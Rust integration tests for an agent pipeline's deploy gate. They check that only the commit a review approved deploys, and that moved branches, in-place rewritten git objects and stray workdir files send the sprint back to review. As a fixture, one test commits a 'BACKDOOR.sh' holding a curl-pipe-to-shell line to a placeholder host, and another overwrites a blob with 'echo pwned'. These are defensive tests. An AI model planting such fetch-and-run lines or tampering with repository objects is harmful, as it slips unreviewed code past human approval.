//! What ships is what the person approved: `done` names the commit the review approved
//! (`sprint show`, `sprint log --json`, the done line), and only those bytes deploy. A
//! branch moved after `done` (by anyone: a person, or the deployer's own first try) or an
//! object rewritten in place (same id, other bytes) stops the deploy: nothing deploys, the
//! sprint goes back to review with a line saying what moved, and the new commits are
//! reviewed like any. Against a real `serve` on each engine.

use std::path::Path;

use serde_json::Value;

use crate::branch::{ON_THE_BRANCH, a_repository_on_main};
use crate::crash::{Serve, cli};
use crate::planted_git_programs::wait_for_state;
use crate::support::db::on_each_engine;
use crate::support::git;
use crate::support::pipeline::{Files, PATIENCE, Setup};

const BRANCH: &str = "feature/sprint-001";

fn json(files: &Files, args: &[&str]) -> Value {
    let out = files.hanarang(args);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("JSON")
}

fn log_json(files: &Files, id: &str) -> Value {
    json(files, &["sprint", "log", id, "--json"])
}

/// The notes of the sprint's transitions, in order.
fn notes(files: &Files, id: &str) -> Vec<Value> {
    log_json(files, id)["transitions"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .into_iter()
        .map(|t| t["note"].clone())
        .collect()
}

/// Waits until `sprint log --json` satisfies `ok`.
fn wait_for_log(files: &Files, id: &str, what: &str, ok: impl Fn(&Value) -> bool) -> Value {
    let deadline = std::time::Instant::now() + PATIENCE;
    loop {
        let log = log_json(files, id);
        if ok(&log) {
            return log;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "never {what}: {log:#}"
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
}

/// The runs of `actor` in the sprint's log.
fn runs_of(log: &Value, actor: &str) -> Vec<Value> {
    log["runs"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|r| r["actor"] == actor)
        .cloned()
        .collect()
}

/// A sprint on a git repository taken to `done`, narang committing one file; the serve,
/// the repository and the sprint's id.
fn a_sprint_at_done(files: &Files) -> (Serve, std::path::PathBuf, String) {
    let (repo, _) = a_repository_on_main(files);
    let serve = Serve::start(files, "serve.log");
    let id = cli(files, &["sprint", "start", "Add a login page"]);
    wait_for_state(files, &id, "done");
    (serve, repo, id)
}

fn setup(engine: crate::support::db::Engine, erang: &'static str) -> Setup {
    Setup {
        narang: "commits 1",
        erang,
        extra: ON_THE_BRANCH,
        engine,
        ..Setup::default()
    }
}

on_each_engine! {
    async fn a_branch_moved_after_done_is_not_deployed_and_is_reviewed_again(engine) {
        let files = Files::new(&setup(engine, "ok"));
        let (_serve, repo, id) = a_sprint_at_done(&files);
        let reviewed = git(&repo, &["rev-parse", BRANCH]);

        // The approval names the commit: in `sprint show` and in the log's move into done.
        let show = json(&files, &["sprint", "show", &id, "--json"]);
        assert_eq!(show["approved_commit"], reviewed.as_str(), "{show:#}");
        assert!(
            notes(&files, &id).contains(&serde_json::json!({ "kind": "approved", "head": reviewed })),
            "{:#?}",
            notes(&files, &id)
        );

        // Someone commits on the branch after the review.
        std::fs::write(repo.join("BACKDOOR.sh"), "curl https://example.invalid/x | sh\n").unwrap();
        git(&repo, &["add", "BACKDOOR.sh"]);
        git(&repo, &["-c", "user.name=x", "-c", "user.email=x@example.invalid", "commit", "-q", "-m", "tidy"]);
        let moved = git(&repo, &["rev-parse", BRANCH]);
        let show = files.hanarang(&["sprint", "show", &id]);
        let said = String::from_utf8_lossy(&show.stdout);
        assert!(
            said.contains(&format!("Approved at {}", &reviewed[..7]))
                && said.contains("moved after the review")
                && said.contains(&format!("{} tidy (not reviewed)", &moved[..7])),
            "{said}"
        );
        let show = json(&files, &["sprint", "show", &id, "--json"]);
        assert_eq!(show["unreviewed_commits"], serde_json::json!([moved]));

        // The approval deploys nothing: the sprint goes back to review, saying what moved.
        let answer = cli(&files, &["sprint", "approve", &id]);
        assert!(
            answer.contains("done → reviewing (nothing deployed: the branch feature/sprint-001 moved from"),
            "{answer}"
        );
        let log = wait_for_log(&files, &id, "reviewed the moved branch and reached done again", |log| {
            log["transitions"]
                .as_array()
                .is_some_and(|t| t.len() >= 2 && t[t.len() - 2]["note"]["kind"] == "moved" && t[t.len() - 1]["to"] == "done")
        });
        assert!(runs_of(&log, "erang").is_empty(), "the deployer ran: {log:#}");
        let transitions = log["transitions"].as_array().unwrap();
        let back = &transitions[transitions.len() - 2];
        assert_eq!(back["from"], "done");
        assert_eq!(back["to"], "reviewing");
        assert_eq!(back["note"]["reviewed"], reviewed.as_str());
        let why = back["note"]["why"].as_str().unwrap_or_default();
        assert!(
            why.contains(&format!("moved from {} to {}", &reviewed[..7], &moved[..7]))
                && why.contains("1 commit new, never reviewed"),
            "{why}"
        );
        let text = String::from_utf8_lossy(&files.hanarang(&["sprint", "log", &id]).stdout).into_owned();
        assert!(text.contains("not deployed") || text.contains("배포 안 함"), "{text}");
        // The new head was reviewed: its review's run was given it, and done names it.
        let darang = runs_of(&log, "darang");
        let again = darang.last().unwrap()["run_id"].as_str().unwrap();
        assert_eq!(files.contract_of(again)["head"], moved.as_str());
        let last = &transitions[transitions.len() - 1];
        assert_eq!(last["note"], serde_json::json!({ "kind": "approved", "head": moved }));

        // Approved now, exactly that commit deploys: the deployer is given it.
        cli(&files, &["sprint", "approve", &id]);
        wait_for_state(&files, &id, "deployed");
        let log = log_json(&files, &id);
        let erang = runs_of(&log, "erang");
        assert_eq!(erang.len(), 1, "{log:#}");
        let run = erang[0]["run_id"].as_str().unwrap();
        assert_eq!(files.contract_of(run)["head"], moved.as_str());
    }
}

on_each_engine! {
    async fn an_object_rewritten_in_place_after_done_is_caught(engine) {
        let files = Files::new(&setup(engine, "ok"));
        let (_serve, repo, id) = a_sprint_at_done(&files);
        // The committed file's blob, rewritten in its loose object: same id, other bytes.
        let blob = git(&repo, &["rev-parse", &format!("{BRANCH}:part-1-1.txt")]);
        let path = |id: &str| repo.join(".git/objects").join(&id[..2]).join(&id[2..]);
        let tampered = {
            let out = std::process::Command::new("git")
                .current_dir(&repo)
                .args(["hash-object", "-w", "--stdin"])
                .stdin(std::process::Stdio::piped())
                .stdout(std::process::Stdio::piped())
                .spawn()
                .and_then(|mut child| {
                    use std::io::Write;
                    child.stdin.take().unwrap().write_all(b"echo pwned\n")?;
                    child.wait_with_output()
                })
                .expect("git hash-object");
            String::from_utf8_lossy(&out.stdout).trim().to_string()
        };
        assert!(path(&blob).exists(), "the blob is a loose object");
        overwrite(&path(&blob), &std::fs::read(path(&tampered)).unwrap());
        assert_eq!(git(&repo, &["rev-parse", BRANCH]).len(), 40, "the branch did not move");

        let answer = cli(&files, &["sprint", "approve", &id]);
        assert!(answer.contains("done → reviewing"), "{answer}");
        let log = log_json(&files, &id);
        let back = log["transitions"]
            .as_array()
            .unwrap()
            .iter()
            .find(|t| t["note"]["kind"] == "moved")
            .cloned()
            .expect("a move back to review");
        let why = back["note"]["why"].as_str().unwrap_or_default();
        assert!(
            why.contains(&format!("the blob {} (part-1-1.txt)", &blob[..7]))
                && why.contains("no longer holds the reviewed bytes"),
            "{why}"
        );
        assert!(runs_of(&log, "erang").is_empty(), "the deployer ran: {log:#}");
    }
}

on_each_engine! {
    async fn a_deployer_retry_after_its_first_try_moved_the_branch_goes_back_to_review(engine) {
        let files = Files::new(&setup(engine, "commit-then-fail-first 1"));
        let (_serve, repo, id) = a_sprint_at_done(&files);
        let reviewed = git(&repo, &["rev-parse", BRANCH]);
        cli(&files, &["sprint", "approve", &id]);
        let log = wait_for_log(&files, &id, "went back to review", |log| {
            log["transitions"].as_array().is_some_and(|t| t.iter().any(|t| t["note"]["kind"] == "moved"))
        });
        let transitions = log["transitions"].as_array().unwrap();
        let back = transitions.iter().find(|t| t["note"]["kind"] == "moved").unwrap();
        assert_eq!(back["from"], "deploying");
        assert_eq!(back["to"], "reviewing");
        assert_eq!(back["note"]["reviewed"], reviewed.as_str());
        // The deployer ran once (its failed try), never on the moved branch.
        assert_eq!(runs_of(&log, "erang").len(), 1, "{log:#}");
    }
}

on_each_engine! {
    async fn a_file_the_reviewer_left_in_the_workdir_is_not_deployed(engine) {
        let files = Files::new(&Setup {
            darang: "leave-file deploy.env",
            ..setup(engine, "ok")
        });
        let (_serve, _repo, id) = a_sprint_at_done(&files);
        let answer = cli(&files, &["sprint", "approve", &id]);
        assert!(
            answer.contains("nothing deployed: the workdir holds changes that are in no commit (deploy.env)"),
            "{answer}"
        );
        assert!(runs_of(&log_json(&files, &id), "erang").is_empty());
    }
}

/// Writes `bytes` over a read-only file, as an agent with a shell can.
fn overwrite(path: &Path, bytes: &[u8]) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::write(path, bytes).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o444)).unwrap();
}

mod rules {
    use hanarang::domain::{Actor, Verdict};
    use hanarang::pipeline::fsm::{Note, ResumePoint};
    use hanarang::pipeline::{Backoff, Event, Facts, Policy, Position, Stage, State, apply, asks};

    fn policy() -> Policy {
        Policy {
            max_attempts: 3,
            max_review_rounds: 3,
            backoff: Backoff {
                initial: std::time::Duration::from_secs(5),
                factor: 2.0,
                max: std::time::Duration::from_secs(300),
            },
        }
    }

    const HEAD: &str = "3f2a1c9e0000000000000000000000000000beef";

    fn at(state: State, resume: Option<Stage>) -> Position {
        Position {
            state,
            round: 2,
            attempt: 3,
            resume: resume.map(|stage: Stage| ResumePoint {
                stage: stage.state(),
                round: 2,
            }),
        }
    }

    fn facts(moved: Option<&'static str>) -> Facts<'static> {
        Facts {
            approved_head: Some(HEAD),
            moved,
            ..Facts::of("SPRINT-001", false)
        }
    }

    fn approved() -> Option<Note> {
        Some(Note::Approved { head: HEAD.into() })
    }

    #[test]
    fn the_approving_review_notes_its_head_and_the_approval_names_it() {
        let review = Event::Reported {
            actor: Actor::Darang,
            verdict: Verdict::Approve,
            sprint_id: None,
            reason: None,
        };
        let reviewing = at(State::Reviewing, None);
        assert_eq!(asks(reviewing, &review), (false, true));
        let t = apply(reviewing, &review, facts(None), &policy()).unwrap();
        assert_eq!((t.to.state, t.note), (State::Done, approved()));

        let approve = Event::Approve {
            by: "cli:p@h".into(),
        };
        let done = at(State::Done, None);
        assert_eq!(asks(done, &approve), (true, false));
        let t = apply(done, &approve, facts(None), &policy()).unwrap();
        assert_eq!((t.to.state, t.note), (State::Deploying, approved()));
    }

    #[test]
    fn a_moved_commit_goes_back_to_review_in_the_same_round_from_every_way_into_the_deploy() {
        let moved = Some(Note::Moved {
            reviewed: HEAD.into(),
            why: "the branch moved".into(),
        });
        let approve = Event::Approve {
            by: "cli:p@h".into(),
        };
        let resume = Event::Resume {
            by: "cli:p@h".into(),
            focus: None,
        };
        let found = Event::Moved {
            reviewed: HEAD.into(),
            why: "the branch moved".into(),
        };
        for (from, event) in [
            (at(State::Done, None), &approve),
            (at(State::Escalated, Some(Stage::Deploying)), &resume),
            (at(State::Deploying, None), &resume),
            (at(State::Deploying, None), &found),
        ] {
            assert!(asks(from, event).0 || matches!(event, Event::Moved { .. }));
            let t = apply(from, event, facts(Some("the branch moved")), &policy()).unwrap();
            assert_eq!(t.to.state, State::Reviewing, "{from:?} × {event:?}");
            assert_eq!((t.to.round, t.to.attempt), (2, 1), "the same round, afresh");
            assert_eq!(t.note, moved, "{from:?} × {event:?}");
        }
        // A resume into another stage has nothing to deploy.
        let escalated = at(State::Escalated, Some(Stage::Implementing));
        assert!(!asks(escalated, &resume).0);
        let t = apply(escalated, &resume, facts(Some("x")), &policy()).unwrap();
        assert_eq!((t.to.state, t.note), (State::Implementing, None));
        // Never while the deployer runs.
        let running = Facts {
            sister_running: true,
            ..facts(Some("x"))
        };
        assert!(apply(at(State::Deploying, None), &found, running, &policy()).is_err());
    }
}
